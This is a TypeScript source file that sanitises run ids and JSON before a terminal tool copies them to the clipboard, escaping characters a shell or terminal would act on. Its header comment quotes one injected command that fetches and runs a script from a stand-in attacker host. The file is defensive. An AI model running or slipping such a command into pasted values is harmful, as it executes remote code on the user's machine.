// What `y` and `Y` put on the clipboard, where it will be pasted into a shell, a URL or a
// ticket. Server text is sanitised for the screen, but a newline a terminal shows folded
// runs a command when pasted: `Wp7k; curl evil.example|sh\n`. So a run id is copied only
// when it is a plain identifier, and JSON goes on one line with every character a shell
// or a terminal would act on escaped, still valid JSON.
import {toWireDetail, toWireRun} from '../api/to-wire.js';
import type {Run, RunDetail} from '../domain/run.js';

/** Longest run id `y` copies; TableFlow's are 16 characters. */
export const MAX_COPIED_ID = 64;

const PLAIN_ID = /^[A-Za-z0-9_-]+$/;

/** Why `id` is not copied, or null when it is a plain identifier. */
export function idRefusal(id: string): string | null {
  if (id.length > MAX_COPIED_ID)
    return `run id not copied: longer than ${MAX_COPIED_ID} characters`;
  if (!PLAIN_ID.test(id))
    return 'run id not copied: it has characters other than letters, digits, - and _';
  return null;
}

// Inside a JSON string: whitespace but the space, controls, format and bidi characters,
// private and unassigned code points, and what a shell expands between double quotes
// ($ ` !). None can occur outside strings in JSON.stringify's compact output.
const ACTIVE = /[^\S ]|[\p{Cc}\p{Cf}\p{Co}\p{Cn}\p{Zl}\p{Zp}$`!]/gu;

function escaped(char: string): string {
  let out = '';
  // A code point past U+FFFF is escaped as its two UTF-16 halves, as JSON requires.
  for (let i = 0; i < char.length; i++)
    out += `\\u${char.charCodeAt(i).toString(16).padStart(4, '0')}`;
  return out;
}

/** `value` as JSON on one line, with no character a shell or terminal acts on left raw. */
export function clipboardJson(value: unknown): string {
  return JSON.stringify(value).replace(ACTIVE, escaped);
}

/** The run as `Y` copies it: the fetched detail when there is one, else the listed run. */
export function runJson(run: Run, detail: RunDetail | null): string {
  return clipboardJson(detail === null ? toWireRun(run) : toWireDetail(detail));
}
